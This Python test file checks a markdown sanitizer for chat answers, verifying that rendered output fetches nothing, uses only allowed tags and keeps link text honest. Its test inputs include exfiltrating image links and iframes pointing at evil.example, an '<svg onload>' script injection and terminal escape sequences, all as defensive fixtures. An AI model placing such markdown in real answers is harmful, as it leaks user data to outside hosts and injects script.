"""What a chat page makes of an answer: it fetches nothing by itself, and a link leads where it says."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import unquote

import cmarkgfm
import pytest
from cmarkgfm.cmark import Options
from hypothesis import example, given, settings
from hypothesis import strategies as st

from tasks.text.markdown import harmless

OURS = {"p", "em", "strong", "del", "code", "pre", "ul", "ol", "li", "blockquote", "hr", "br", "a",
        "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"}  # fmt: skip


class Read(HTMLParser):
    """Notes the tags of a page, and of each link its address and its words."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.links: list[tuple[str, str]] = []
        self._address: str | None = None
        self._words = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        if tag == "a":
            self._address, self._words = dict(attrs)["href"] or "", ""

    def handle_data(self, data: str) -> None:
        self._words += data

    def handle_endtag(self, tag: str) -> None:
        if tag == "a" and self._address is not None:
            self.links.append((self._address, self._words))
            self._address = None


def read(markdown: str) -> Read:
    page = Read()
    page.feed(cmarkgfm.github_flavored_markdown_to_html(markdown, options=Options.CMARK_OPT_UNSAFE))
    return page


def honest(page: Read) -> bool:
    """Whether each link has its address as its words."""
    return all(unquote(address).removeprefix("http://") in words for address, words in page.links)


@pytest.mark.parametrize(
    "said",
    [
        "![leak](http://evil.example/q?=secret)", "[see here](http://evil.example)", "<img src=http://evil.example/x>",
        "\\![a\\](http://evil.example)", "\\\\<img src=x>", "[a][b]\n\n[b]: http://evil.example", "<http://evil.example>",
        "![a][b]\n\n> [b]: http://evil.example", "```html\n<img src=http://evil.example>\n```",
        '<svg onload="alert(1)">', "<!-- x --><iframe src=//evil.example>", "a\\", "[1](http://evil.example)",
    ],
)  # fmt: skip
def test_nothing_is_fetched_and_nothing_is_hidden(said: str) -> None:
    page = read(harmless(said))
    assert page.tags <= OURS
    assert honest(page)


@pytest.mark.parametrize(
    "said",
    [
        "Every 400 hours. [1][2] And **never** later [3].", "a < b, 3 <= 4, x <- y", "1. one\n2. two\n\n- three",
        "See https://docs.example/page.", "| a | b |\n| --- | --- |\n| 1 | 2 |", "`code` and ~~gone~~", "Stop! [1]",
    ],
)  # fmt: skip
def test_what_harms_nobody_stays_as_it_is(said: str) -> None:
    assert harmless(said) == said


def test_control_characters_go() -> None:
    assert harmless("30 days \x1b]0;owned\x07\x1b[2J\u009b2J \u202ex.") == "30 days ]0;owned[2J2J x."


SPECIAL = [
    "!",
    "[",
    "]",
    "(",
    ")",
    "<",
    ">",
    "\\",
    ":",
    " ",
    "\n",
    "a",
    "1",
    "/",
    "x",
    "img src=x",
    "http://e.example",
    "`",
]


@settings(deadline=None, max_examples=300)
@given(st.lists(st.lists(st.sampled_from(SPECIAL), max_size=8).map("".join), max_size=5))
@example(["see [here]", "(http://e.example)"])
@example(["a <", "img src=x>"])
@example(["http://e.example<x>"])
@example(["http://e.example", "<x>"])
@example(["http://e.example/\\\\", "\\<x>"])
@example(["a \\", "<img src=x>"])
@example(["[1]", ": http://e.example\n\n[x][1]"])
def test_pieces_that_are_sent_one_after_the_other_are_as_harmless(pieces: list[str]) -> None:
    page = read("".join(harmless(piece) for piece in pieces))
    assert page.tags <= OURS
    assert honest(page)
